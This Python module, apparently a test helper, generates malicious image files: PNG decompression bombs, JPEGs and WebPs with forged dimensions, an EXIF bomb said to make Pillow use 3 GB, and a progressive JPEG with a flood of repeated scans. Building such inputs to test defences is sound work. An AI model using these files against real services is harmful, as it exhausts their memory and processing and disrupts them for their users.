"""Image files that are meant to do harm, and how to make them."""

import io
import struct
import zlib

from PIL import Image


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, depth: int = 8, colour: int = 2, extra: bytes = b"") -> bytes:
    """A black PNG of any size, in which each pixel costs next to nothing; `extra` are chunks after its header."""
    bits = {0: 1, 2: 3, 6: 4}[colour] * depth
    row, packed = bytes(1 + (width * bits + 7) // 8), zlib.compressobj(9)
    rows = b"".join([*(packed.compress(row) for _ in range(height)), packed.flush()])
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def saved(image: Image.Image, form: str, **options) -> bytes:
    file = io.BytesIO()
    image.save(file, form, **options)
    return file.getvalue()


def picture(side: int = 64) -> Image.Image:
    """Something to see: a gradient."""
    return Image.linear_gradient("L").resize((side, side)).convert("RGB")


def jpeg(*segments: bytes, side: int = 64) -> bytes:
    """A JPEG with `segments` right after its start."""
    data = saved(picture(side), "JPEG")
    return data[:2] + b"".join(segments) + data[2:]


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose header says that it is of that size."""
    data = bytearray(saved(picture(), "JPEG"))
    place = data.index(b"\xff\xc0")
    data[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_claiming(width: int, height: int) -> bytes:
    """A small WebP whose canvas is said to be of that size."""
    data = saved(picture().convert("RGBA"), "WEBP", exif=b"Exif\0\0II*\0\x08\0\0\0\0\0", lossless=True)
    place = data.index(b"VP8X") + 12
    sides = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return data[:place] + sides + data[place + 6 :]


def segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def exif_bomb() -> bytes:
    """A JPEG of 1 MB whose EXIF has 3,000 entries, each with all of its bytes as value: Pillow takes 3 GB to open it."""
    entries, size = 3_000, 1_000_000
    table = b"".join(struct.pack(">HHII", 1_000 + number, 1, size, 8) for number in range(entries))
    tiff = (b"MM\0*" + struct.pack(">IH", 8, entries) + table).ljust(size + 8, b"\0")
    # without JFIF's segment, which would tell Pillow the resolution for which it otherwise looks into the EXIF
    data = saved(picture(), "JPEG")
    (jfif,) = struct.unpack(">H", data[4:6])
    parts = (segment(0xE1, b"Exif\0\0" + tiff[start : start + 60_000]) for start in range(0, len(tiff), 60_000))
    return data[:2] + b"".join(parts) + data[4 + jfif :]


def scan_flood(scans: int = 1_000) -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    data = saved(picture(512), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * scans + data[-2:]
